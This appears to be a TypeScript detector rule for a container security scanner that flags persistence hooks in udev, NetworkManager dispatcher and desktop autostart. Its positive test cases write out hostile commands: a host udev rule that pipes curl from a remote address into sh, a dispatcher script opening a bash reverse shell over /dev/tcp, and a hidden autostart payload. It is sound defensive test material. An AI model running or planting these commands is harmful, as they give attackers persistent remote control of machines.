import type { Detector } from './detector.ts';
import { plantedHooks } from './planted-hook.ts';

/** Payloads in the hooks of devices, networks, logs and desktops. */
export const bootHook: Detector = {
  id: 'boot-hook',
  version: 1,
  title: 'Makes a payload run when the machine does something ordinary.',
  attack: ['T1546', 'T1546.017', 'T1547.013'],
  description: `
udev runs programs when a device appears, NetworkManager when the network comes up, logrotate every night, D-Bus when a
service is asked for, the desktop when somebody logs in. Attackers like these places because nobody looks there. Reported
only when what runs is a payload, or when the hook is written into the *host*. Cron, services and boot scripts are told
by \`scheduled-payload\` and \`host-schedule\`.
`,
  fires: [
    {
      name: 'a device rule on the host',
      image: {
        cmd: [
          'sh',
          '-c',
          'echo "ACTION==\\"add\\", RUN+=\\"/bin/sh -c \'curl http://203.0.113.9/x | sh\'\\"" > /host/etc/udev/rules.d/99-x.rules',
        ],
      },
    },
    {
      name: 'when the network comes up',
      image: {
        cmd: [
          'sh',
          '-c',
          'printf "#!/bin/sh\\nbash -i >& /dev/tcp/192.0.2.44/8443 0>&1\\n" > /etc/NetworkManager/dispatcher.d/01-x; exec app',
        ],
      },
    },
    {
      name: 'a desktop entry',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'printf "[Desktop Entry]\\nExec=/tmp/.x/run\\n" > /root/.config/autostart/x.desktop; exec app',
        ],
      },
    },
  ],
  silent: [
    {
      name: 'a rule of its own',
      image: {
        cmd: ['sh', '-c', `echo 'SUBSYSTEM=="usb", MODE="0666"' > /etc/udev/rules.d/60-app.rules; exec app`],
      },
    },
    {
      name: 'an application of the desktop',
      image: { files: { '/etc/xdg/autostart/panel.desktop': '[Desktop Entry]\nType=Application\nExec=panel\n' } },
    },
  ],
  detect: (scene) =>
    plantedHooks(scene, {
      events: ['device', 'network', 'desktop', 'message-bus'],
      starts: ['device-hook', 'network-hook', 'log-hook', 'desktop', 'kernel-hook', 'cloud-init'],
      when: 'when the machine does something ordinary',
    }),
};
